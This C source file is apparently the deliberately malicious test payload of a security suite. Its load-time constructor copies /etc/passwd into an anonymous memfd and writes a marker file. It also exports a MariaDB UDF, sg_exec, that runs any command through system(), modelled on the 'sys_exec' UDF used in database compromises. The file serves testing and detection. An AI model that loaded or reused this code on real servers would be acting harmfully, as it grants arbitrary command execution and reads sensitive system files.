/* The suite's malicious shared object. Loaded into a server (gdb's dlopen, a pickle
 * that builds ctypes.CDLL, MariaDB's CREATE FUNCTION ... SONAME), its constructor does
 * what an implant does first, from the server's own thread: stage a payload in an
 * anonymous memory file (memfd_create) filled from a sensitive file, and leave a mark so
 * the harness knows the code ran. It also exports a MariaDB UDF, sg_exec(cmd), which runs
 * cmd with system(): the classic "sys_exec" UDF of database compromises.
 * Built by the suite with: gcc -shared -fPIC -O2 -DSG_MARK='"<path>"' payload.c */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#ifndef SG_MARK
#define SG_MARK "/tmp/sysgram-payload-mark"
#endif

__attribute__((constructor)) static void sg_payload(void)
{
    char buf[4096];
    int mem = memfd_create("sg-stage", MFD_CLOEXEC);
    int src = open("/etc/passwd", O_RDONLY | O_CLOEXEC);
    ssize_t n = src >= 0 ? read(src, buf, sizeof buf) : -1;
    if (mem >= 0 && n > 0 && write(mem, buf, (size_t)n) < 0)
        n = -1;
    if (src >= 0)
        close(src);
    if (mem >= 0)
        close(mem);
    int mark = open(SG_MARK, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    if (mark >= 0) {
        char line[64];
        int len = snprintf(line, sizeof line, "loaded pid %d staged %zd\n", (int)getpid(), n);
        if (write(mark, line, (size_t)len) < 0)
            len = 0;
        close(mark);
    }
}

/* MariaDB UDF ABI (include/mysql_com.h): only the fields used here are named. */
typedef struct { char maybe_null; unsigned int decimals; unsigned long max_length;
                 char *ptr; char const_item; void *extension; } SG_UDF_INIT;
typedef struct { unsigned int arg_count; int *arg_type; char **args;
                 unsigned long *lengths; } SG_UDF_ARGS;

char sg_exec_init(SG_UDF_INIT *init, SG_UDF_ARGS *args, char *message)
{
    (void)init;
    if (args->arg_count != 1) {
        strcpy(message, "sg_exec(command)");
        return 1;
    }
    args->arg_type[0] = 0; /* STRING_RESULT */
    return 0;
}

long long sg_exec(SG_UDF_INIT *init, SG_UDF_ARGS *args, char *is_null, char *error)
{
    (void)init; (void)is_null; (void)error;
    char cmd[1024];
    unsigned long n = args->lengths[0] < sizeof cmd - 1 ? args->lengths[0] : sizeof cmd - 1;
    if (args->args[0] == NULL)
        return -1;
    memcpy(cmd, args->args[0], n);
    cmd[n] = 0;
    return system(cmd);
}
